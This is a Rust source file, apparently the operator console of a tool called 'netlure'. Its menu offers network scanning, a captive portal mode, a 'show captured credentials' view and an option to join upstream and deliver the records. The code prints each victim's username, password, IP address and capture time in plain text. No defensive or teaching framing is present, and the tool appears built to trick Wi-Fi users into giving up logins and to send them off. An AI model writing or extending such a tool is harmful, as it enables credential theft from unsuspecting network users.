use std::fmt::Write;
use std::io::BufRead;
use std::sync::mpsc::Sender;

use anyhow::{Context, Result};

use netlure_capture::CapturedCredential;

use crate::controller::{ConsoleCommand, ControlEvent};

pub const MENU: &str = "\
Available commands:
1 - Scanning mode
2 - Captive portal mode
3 - Show surveyed networks
4 - Security summary
5 - Show captured credentials
6 - Join upstream and deliver records
h - Show this menu
";

pub fn parse_command(input: char) -> Option<ConsoleCommand> {
    match input {
        '1' => Some(ConsoleCommand::ScanningMode),
        '2' => Some(ConsoleCommand::PortalMode),
        '3' => Some(ConsoleCommand::ShowNetworks),
        '4' => Some(ConsoleCommand::SecuritySummary),
        '5' => Some(ConsoleCommand::ShowCaptured),
        '6' => Some(ConsoleCommand::SyncNow),
        'h' => Some(ConsoleCommand::ShowMenu),
        _ => None,
    }
}

/// Forwards single-character stdin commands to the controller. Unknown
/// characters are dropped. The thread ends when stdin closes or the
/// controller side hangs up.
pub fn spawn_console(tx: Sender<ControlEvent>) -> Result<std::thread::JoinHandle<()>> {
    std::thread::Builder::new()
        .name("netlure-console".to_string())
        .spawn(move || {
            let stdin = std::io::stdin();
            let mut lines = stdin.lock().lines();
            while let Some(Ok(line)) = lines.next() {
                for ch in line.trim().chars() {
                    if let Some(command) = parse_command(ch) {
                        if tx.send(ControlEvent::Command(command)).is_err() {
                            return;
                        }
                    }
                }
            }
        })
        .context("spawning console thread")
}

/// The operator's view of the buffered store, one block per record.
pub fn format_records(records: &[CapturedCredential]) -> String {
    if records.is_empty() {
        return "No credentials captured.\n".to_string();
    }

    let mut out = String::new();
    for (index, record) in records.iter().enumerate() {
        let _ = writeln!(out, "Entry {}:", index + 1);
        let _ = writeln!(out, "  Username: {}", record.username);
        let _ = writeln!(out, "  Password: {}", record.password);
        let _ = writeln!(out, "  IP: {}", record.source_address);
        let _ = writeln!(out, "  Timestamp: {} ms", record.captured_at_ms);
        out.push('\n');
    }
    out
}
